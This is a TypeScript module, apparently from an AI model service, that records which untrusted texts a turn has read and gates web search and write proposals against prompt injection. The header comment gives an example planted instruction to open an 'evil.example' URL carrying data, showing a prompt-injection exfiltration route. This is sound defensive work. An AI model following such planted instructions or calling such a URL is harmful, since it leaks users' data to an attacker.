// What the turn has read that someone other than the user wrote (OWASP LLM01): client-sent history,
// prior answer and context (they replay earlier answers built from captured data), and every tool
// result. Two rules rest on it, enforced in code whatever the model was told:
// - web search is offered only while nothing untrusted is in the conversation (a planted "open
//   https://evil.example/?d=…" needs no click);
// - a write is offered only when the user's own question asks for a change, and a proposal made
//   after untrusted content arrived says so in its artifact (`untrusted_context`, `basis`).
import type { AskRequest } from './request.ts';

/** Names of what the turn has read from others so far, in the order it arrived. */
export class UntrustedSources {
  readonly #names: string[] = [];

  /** The client-sent texts of the request (history, prior answer, context). */
  static of(request: AskRequest): UntrustedSources {
    const sources = new UntrustedSources();
    if (request.history.length > 0) sources.add('the conversation history your app sent');
    if (request.priorAnswer) sources.add('the previous answer your app sent');
    if (request.context) sources.add('the page context your app sent');
    return sources;
  }

  add(name: string): void {
    if (!this.#names.includes(name)) this.#names.push(name);
  }

  get empty(): boolean {
    return this.#names.length === 0;
  }

  /** A copy, fixed at the moment the model was asked (later reads did not shape its calls). */
  snapshot(): readonly string[] {
    return [...this.#names];
  }
}

/**
 * Whether the user's own question asks for a change (tagging, labelling, marking or flagging a
 * request). Only the question counts: history, prior answer, context and tool output are written
 * by others and may carry planted instructions. A keyword test, so it errs towards offering the
 * write when the question merely mentions tags; the artifact's basis then still says what the
 * proposal rests on, and nothing applies without the user's click.
 */
export function questionAsksForChange(question: string): boolean {
  return /\b(?:tag|tags|tagged|tagging|label|labels|labell?ed|labell?ing|mark|marked|flag|flagged)\b/i
    .test(question);
}

/** The provenance fields a proposal artifact carries (docs/assistant.md "Writes"). */
export function provenanceOf(
  artifact: Record<string, unknown>,
  sources: readonly string[],
): Record<string, unknown> {
  if (sources.length === 0) {
    return { ...artifact, untrusted_context: false, basis: 'Proposed from your question alone.' };
  }
  return {
    ...artifact,
    title: `${String(artifact.title)} (proposed after reading data others wrote: check it)`,
    untrusted_context: true,
    basis: `Proposed after the assistant read ${sources.join(', ')}. Such data can carry ` +
      'planted instructions: confirm only if this is the change you asked for.',
  };
}
